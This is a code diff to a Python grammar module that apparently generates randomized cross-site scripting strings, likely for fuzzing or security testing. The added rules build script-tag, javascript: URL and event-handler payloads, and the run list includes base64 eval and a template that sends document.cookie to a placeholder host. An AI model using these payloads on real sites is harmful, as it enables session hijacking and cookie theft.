@@ -36,7 +36,7 @@ def _dotted_integer(chance: Chance) -> str:
 
 
 _XSS: Final[Rules] = {
-    "xss": ["«tag»", "«tag»", "«tag»", "«breakout»«tag»", "«breakout»«tag»", "«attribute»", "«scheme»", "«inside»", "«before»«tag»", "«breakout»«attribute»", "«css»"],
+    "xss": ["«tag»", "«tag»", "«tag»", "«breakout»«tag»", "«breakout»«tag»", "«attribute»", "«scheme»", "«scheme»", "javascript:«run»", "\"><script>«run»</script>", "<script>«run»</script>", "<img src=x «event»=«run»>", "<svg «event»=«run»>", "«inside»", "«before»«tag»", "«breakout»«attribute»", "«css»"],
     "before": ["«word»", "«sentence»", "«n»", "«rnd»"],
     "breakout": ["\">", "'>", "\"/>", "'/>", "</title>", "</textarea>", "</script>", "-->", "\"><", "</style>", ">", "\">\">", "';", "\";", "</noscript>", "<!--", "]]>", "\" >", "</p>", "«word»\">", "«n»'>"],
     "run": ["alert(«d»)", "alert(1)", "alert('«word»')", "alert(document.cookie)", "alert(document.domain)", "confirm(«d»)", "prompt(«n»)", "alert`«d»`", "print()", "document.location='http://«host»/?c='+document.cookie", "eval(«codes»)", "eval(atob('«b64»'))",
